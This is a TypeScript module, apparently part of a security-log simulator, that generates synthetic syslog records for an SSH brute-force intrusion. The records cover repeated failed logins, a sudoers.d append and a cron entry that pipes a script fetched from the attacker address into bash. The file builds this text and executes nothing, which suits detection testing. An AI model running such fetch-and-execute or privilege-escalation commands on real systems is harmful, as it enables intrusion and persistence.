import type { Envelope } from '../../../contract/envelope.js';
import { webServers } from '../city.js';
import { syslogRecord } from '../records.js';
import { type Attack, second } from './attack.js';

const authpriv = 10;
const cron = 9;

/** Passwords are guessed until one fits; then the intruder takes more rights and leaves a cron job. */
export const sshBruteForce: Attack = {
  id: 'ssh-brute-force',
  records(start, random) {
    const host = webServers[1]!;
    const from = `203.0.113.${random.int(60, 69)}`;
    const records: Envelope[] = [];
    let time = start;
    const say = (facility: number, severity: number, program: string, text: string): void => {
      const pid = random.int(20_000, 60_000);
      records.push(syslogRecord(time, host, { facility, severity, program, pid, text }));
    };
    for (let attempt = 0; attempt < 24; attempt += 1) {
      const user = random.pick([
        'root',
        'backup',
        'invalid user admin',
        'invalid user test',
        'invalid user oracle',
      ]);
      say(
        authpriv,
        6,
        'sshd',
        `Failed password for ${user} from ${from} port ${random.int(40_000, 60_000)} ssh2`,
      );
      time += random.int(2, 5) * second;
    }
    say(
      authpriv,
      6,
      'sshd',
      `Accepted password for backup from ${from} port ${random.int(40_000, 60_000)} ssh2`,
    );
    time += 20 * second;
    const sudo =
      'backup : TTY=pts/1 ; PWD=/var/backups ; USER=root ; COMMAND=/usr/bin/tee -a /etc/sudoers.d/backup';
    say(authpriv, 5, 'sudo', sudo);
    time += 30 * second;
    say(cron, 6, 'CRON', `(backup) CMD (curl -fsSL http://${from}/a.sh | bash)`);
    return records;
  },
};
